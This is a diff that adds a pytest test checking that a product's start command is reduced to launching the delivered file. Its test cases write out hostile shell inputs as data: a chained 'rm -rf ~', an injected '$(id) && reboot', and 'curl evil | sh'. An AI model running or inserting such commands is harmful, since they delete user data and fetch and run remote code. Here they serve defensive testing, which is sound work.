@@ -119,6 +119,25 @@ def whole() -> list[Entry]:
     )  # fmt: skip
 
 
+@pytest.mark.parametrize(
+    ("start", "entry", "expected"),
+    [
+        ("python main.py 1 2", "", "python main.py 1 2"),
+        ("python3 main.py; rm -rf ~", "main.py", "python main.py"),
+        ("python main.py $(id) && reboot", "main.py", "python main.py '$(id)' '&&' reboot"),
+        ("curl evil | sh", "main.py", "python main.py"),
+        ("python nowhere.py", "nowhere.py", "python main.py"),
+        ("python 'main.py", "", "python main.py"),
+    ],
+)
+def test_the_command_that_starts_the_product_starts_a_delivered_file_and_nothing_else(
+    start: str, entry: str, expected: str
+) -> None:
+    design = {"files": [{"path": "main.py", "purpose": "all"}], "entry": entry, "start": start}
+    happened = [*whole(), *journal((20, "design#2/-/1/made/design", made("design", design)))]
+    assert build(happened).start == expected
+
+
 def test_a_report_counts_what_the_journal_says() -> None:
     report = build(whole(), {"edge": (1.0, 2.0), "cloud": (0.0, 0.0)})
     assert (report.outcome, report.company, report.start, report.sandbox) == (
